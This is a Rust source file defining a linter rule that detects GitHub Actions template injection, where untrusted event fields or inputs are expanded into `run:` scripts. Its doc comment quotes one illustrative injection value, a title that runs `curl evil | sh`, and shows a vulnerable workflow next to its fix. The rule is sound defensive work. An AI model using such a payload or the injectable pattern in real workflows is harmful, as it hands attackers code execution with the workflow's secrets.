use super::{expressions, flowing_contexts, github_context_is_untrusted, input_is_typed_safe};
use super::{steps, uses_action};
use crate::prelude::*;

rule! {
    /// ## What it does
    /// Reports a `${{ … }}` expression in a `run:` script (or in the `script:` of
    /// `actions/github-script`) whose value an outsider can choose: the `github` context
    /// (`github.event.issue.title`, `github.event.pull_request.body`, `github.head_ref`,
    /// comment bodies, commit messages, branch names; not the run's ids, the repository's
    /// name or the event's numbers and booleans) and `inputs.*` (unless the input is declared
    /// `boolean`, `number`, `choice` or `environment`). A value only compared
    /// (`github.event_name == 'push'`) or tested (`contains(…)`) is not reported.
    ///
    /// ## Why it matters
    /// The guide's §10 (build systems and CI/CD): GitHub substitutes the expression into the
    /// script *before* the shell runs it, so a pull request titled `"; curl evil | sh; #"`
    /// becomes shell code running with the workflow's token and secrets. Passed through
    /// `env:`, the same value is data.
    ///
    /// ## Example
    /// ```yaml
    /// # file: .github/workflows/triage.yml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "${{ github.event.issue.title }}"
    /// ```
    ///
    /// ## Use instead
    /// ```yaml
    /// # file: .github/workflows/triage.yml
    /// on: issues
    /// jobs:
    ///   triage:
    ///     runs-on: ubuntu-latest
    ///     steps:
    ///       - run: echo "$TITLE"
    ///         env:
    ///           TITLE: ${{ github.event.issue.title }}
    /// ```
    pub static WORKFLOW_TEMPLATE_INJECTION = Rule {
        code: "CI005",
        name: "workflow-template-injection",
        severity: Severity::Error,
        confidence: None,
        bandit: None,
        default_enabled: true,
        peers: &[Peer::same("zizmor", "template-injection")],
        check: Check::Ci { run: check },
    };
}

fn check(cx: &mut CiContext) {
    for step in steps(cx) {
        let script = match step.node.get("run") {
            Some(run) => Some((run, "run:")),
            None => step
                .node
                .str_of("uses")
                .filter(|uses| uses_action(uses, "actions/github-script"))
                .and_then(|_| step.node.get("with"))
                .and_then(|with| with.get("script"))
                .map(|script| (script, "script:")),
        };
        let Some((script, sink)) = script else {
            continue;
        };
        for expression in expressions(step.file, script) {
            for context in flowing_contexts(expression.body) {
                let name = context.name;
                let read = context.read();
                let lower = name.to_ascii_lowercase();
                let untrusted = if lower.starts_with("github.") {
                    github_context_is_untrusted(&read)
                } else if let Some(input) = lower.strip_prefix("inputs.") {
                    !input_is_typed_safe(&step, input)
                } else {
                    false
                };
                if !untrusted {
                    continue;
                }
                // The context itself: `${{` + its offset in the body.
                let start = expression.start + 3 + context.offset;
                let end = start + name.len();
                cx.report_range_within(
                    step.file,
                    start,
                    end,
                    Some(step.node),
                    format!(
                        "`${{{{ {name} }}}}` is expanded into the `{sink}` script before it runs, so whoever sets it can inject code; pass it through `env:` and use the variable"
                    ),
                );
            }
        }
    }
}
